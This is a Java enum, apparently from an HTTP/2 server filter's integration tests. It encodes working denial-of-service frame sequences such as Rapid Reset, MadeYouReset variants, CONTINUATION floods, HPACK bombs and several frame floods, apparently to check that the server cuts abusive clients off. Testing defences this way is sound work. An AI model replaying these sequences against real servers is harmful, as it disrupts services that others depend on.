package org.upgradefilter.it.http2;

import static org.upgradefilter.it.http2.Http2Frame.data;
import static org.upgradefilter.it.http2.Http2Frame.frame;
import static org.upgradefilter.it.http2.Http2Frame.headers;
import static org.upgradefilter.it.http2.Http2Frame.lastHeaders;
import static org.upgradefilter.it.http2.Http2Frame.ping;
import static org.upgradefilter.it.http2.Http2Frame.reset;
import static org.upgradefilter.it.http2.Http2Frame.settings;
import static org.upgradefilter.it.http2.Http2Frame.windowUpdate;

import java.util.Arrays;
import java.util.Locale;
import java.util.function.IntFunction;
import java.util.stream.IntStream;

/**
 * What makes much work for a server by little, again and again, until it has had enough (RFC 9113
 * §10.5). Each step is one write.
 */
enum Http2Attack {
    /** CVE-2023-44487. */
    RAPID_RESET {
        @Override
        boolean goesOn() {
            return true;
        }

        @Override
        Http2Frame[] step(int i) {
            return of(get(id(i), "/brief"), reset(id(i), CANCEL));
        }
    },

    RAPID_RESET_OF_WHAT_GOES_ON_NEVERTHELESS {
        @Override
        Http2Frame[] step(int i) {
            return of(get(id(i), "/stubborn"), reset(id(i), CANCEL));
        }
    },

    RAPID_RESET_OF_UPLOADS {
        @Override
        Http2Frame[] step(int i) {
            return of(post(id(i)), data(id(i), new byte[9000]), reset(id(i), CANCEL));
        }
    },

    /** CVE-2025-8671, as the others of its name. */
    MADE_YOU_RESET_BY_AN_EMPTY_WINDOW_UPDATE {
        @Override
        Http2Frame[] step(int i) {
            return of(get(id(i), "/stubborn"), windowUpdate(id(i), 0));
        }
    },

    MADE_YOU_RESET_BY_A_WINDOW_TOO_LARGE {
        @Override
        Http2Frame[] step(int i) {
            return of(get(id(i), "/stubborn"), windowUpdate(id(i), Integer.MAX_VALUE));
        }
    },

    MADE_YOU_RESET_BY_CONTENT_BEHIND_THE_END {
        @Override
        Http2Frame[] step(int i) {
            return of(get(id(i), "/stubborn"), data(id(i), new byte[100]));
        }
    },

    MADE_YOU_RESET_BY_A_HEAD_BEHIND_THE_END {
        @Override
        Http2Frame[] step(int i) {
            return of(get(id(i), "/stubborn"), get(id(i), "/stubborn"));
        }
    },

    MADE_YOU_RESET_BY_MORE_THAN_ANNOUNCED {
        @Override
        Http2Frame[] step(int i) {
            byte[] block = request("POST", "/upload").with("content-length", "9").bytes();
            return of(headers(id(i), block), data(id(i), new byte[10]));
        }
    },

    MADE_YOU_RESET_BY_TRAILERS_THAT_DO_NOT_END {
        @Override
        Http2Frame[] step(int i) {
            return of(post(id(i)), headers(id(i), FieldBlock.empty().with("x", "y").bytes()));
        }
    },

    MADE_YOU_RESET_BY_A_SHORT_PRIORITY {
        @Override
        Http2Frame[] step(int i) {
            return of(get(id(i), "/stubborn"), frame(Http2Frame.PRIORITY, 0, id(i), 0, 0, 0, 0));
        }
    },

    MADE_YOU_RESET_BY_A_HEAD_WITHOUT_A_PATH {
        @Override
        Http2Frame[] step(int i) {
            return of(lastHeaders(id(i), FieldBlock.empty().with(":method", "GET").bytes()));
        }
    },

    REQUESTS_BEYOND_THE_NUMBER_OF_STREAMS {
        @Override
        Http2Frame[] before() {
            return each(100, i -> post(id(i)));
        }

        @Override
        Http2Frame[] step(int i) {
            return of(get(id(100 + i), "/brief"));
        }
    },

    SETTINGS_FLOOD {
        @Override
        Http2Frame[] step(int i) {
            return of(settings());
        }
    },

    /** Each changes the windows of a hundred streams. */
    SETTINGS_THAT_OPEN_AND_CLOSE_WINDOWS {
        @Override
        Http2Frame[] before() {
            return each(100, i -> get(id(i), "/large"));
        }

        @Override
        Http2Frame[] step(int i) {
            return of(settings(INITIAL_WINDOW_SIZE, i % 2));
        }
    },

    ACKNOWLEDGEMENT_FLOOD {
        @Override
        Http2Frame[] step(int i) {
            return of(frame(Http2Frame.SETTINGS, Http2Frame.ACK, 0));
        }
    },

    PING_FLOOD {
        @Override
        Http2Frame[] step(int i) {
            return of(ping("12345678"));
        }
    },

    PING_FLOOD_WITHOUT_LISTENING {
        @Override
        boolean listens() {
            return false;
        }

        @Override
        Http2Frame[] step(int i) {
            return of(ping("12345678"));
        }
    },

    PRIORITY_FLOOD {
        @Override
        Http2Frame[] step(int i) {
            return of(frame(Http2Frame.PRIORITY, 0, id(i), 0, 0, 0, 0, 1));
        }
    },

    WINDOW_UPDATE_FLOOD {
        @Override
        Http2Frame[] step(int i) {
            return of(windowUpdate(0, 1));
        }
    },

    FLOOD_OF_FRAMES_NOBODY_KNOWS {
        @Override
        Http2Frame[] step(int i) {
            return of(frame(0xEE, 0, 0));
        }
    },

    EMPTY_CONTENT_FLOOD {
        @Override
        Http2Frame[] before() {
            return of(post(id(0)));
        }

        @Override
        Http2Frame[] step(int i) {
            return of(data(id(0), new byte[0]));
        }
    },

    PADDING_FLOOD {
        @Override
        Http2Frame[] before() {
            return of(post(id(0)));
        }

        @Override
        Http2Frame[] step(int i) {
            byte[] padding = new byte[256];
            padding[0] = (byte) 255;
            return of(new Http2Frame(Http2Frame.DATA, Http2Frame.PADDED, id(0), padding));
        }
    },

    /** CVE-2024-27983 and its like. */
    CONTINUATION_FLOOD {
        @Override
        Http2Frame[] before() {
            return of(new Http2Frame(Http2Frame.HEADERS, 0, id(0), new byte[0]));
        }

        @Override
        boolean mayPing() {
            return false;
        }

        @Override
        Http2Frame[] step(int i) {
            return of(frame(Http2Frame.CONTINUATION, 0, id(0)));
        }
    },

    LARGE_CONTINUATION_FLOOD {
        @Override
        Http2Frame[] before() {
            return of(new Http2Frame(Http2Frame.HEADERS, 0, id(0), new byte[0]));
        }

        @Override
        boolean goesOn() {
            return true;
        }

        @Override
        boolean mayPing() {
            return false;
        }

        @Override
        Http2Frame[] step(int i) {
            byte[] fields = FieldBlock.empty().with("x", "x".repeat(16_000)).bytes();
            return of(new Http2Frame(Http2Frame.CONTINUATION, 0, id(0), fields));
        }
    },

    /** Each of 16 KiB stands for 39 MiB. */
    HPACK_BOMBS {
        @Override
        Http2Frame[] step(int i) {
            byte[] references = new byte[13_000];
            Arrays.fill(references, FIRST_OF_THE_TABLE);
            byte[] block =
                    request("GET", "/brief")
                            .withIndexed("bomb", "x".repeat(3000))
                            .followedBy(references)
                            .bytes();
            return of(lastHeaders(id(i), block));
        }
    },

    /** Nothing more is sent, and no window is opened. */
    ZERO_WINDOW_HOARDING {
        @Override
        Http2Frame[] before() {
            return hoard();
        }

        @Override
        Http2Frame[] step(int i) {
            return of();
        }
    },

    WINDOWS_BY_THE_BYTE {
        @Override
        Http2Frame[] before() {
            return hoard();
        }

        @Override
        Http2Frame[] step(int i) {
            return of(windowUpdate(id(i % 100), 1));
        }
    };

    private static final int CANCEL = 8;
    private static final int INITIAL_WINDOW_SIZE = 4;

    /** An indexed field (RFC 7541 §6.1). */
    private static final byte FIRST_OF_THE_TABLE = (byte) (0x80 | 62);

    /** What is sent once. */
    Http2Frame[] before() {
        return of();
    }

    /** What is sent again and again, in one write; nothing to wait. */
    abstract Http2Frame[] step(int i);

    /** False if nothing is received before all is sent, whatever the server says. */
    boolean listens() {
        return true;
    }

    /** True if it goes on when the server has said that it has enough. */
    boolean goesOn() {
        return false;
    }

    /** False if no other frame may be sent in between. */
    boolean mayPing() {
        return true;
    }

    /** By what the application knows whose requests it counts. */
    String who() {
        return name().toLowerCase(Locale.ROOT);
    }

    private static int id(int i) {
        return 3 + 2 * i;
    }

    private static Http2Frame[] of(Http2Frame... frames) {
        return frames;
    }

    private static Http2Frame[] each(int count, IntFunction<Http2Frame> frame) {
        return IntStream.range(0, count).mapToObj(frame).toArray(Http2Frame[]::new);
    }

    FieldBlock request(String method, String path) {
        return FieldBlock.request(method, path + "?who=" + who());
    }

    Http2Frame get(int stream, String path) {
        return lastHeaders(stream, request("GET", path).bytes());
    }

    Http2Frame post(int stream) {
        return headers(stream, request("POST", "/upload").bytes());
    }

    /** As many requests as may be, whose answers are not taken. */
    Http2Frame[] hoard() {
        return IntStream.rangeClosed(0, 100)
                .mapToObj(i -> i == 0 ? settings(INITIAL_WINDOW_SIZE, 0) : get(id(i - 1), "/large"))
                .toArray(Http2Frame[]::new);
    }
}
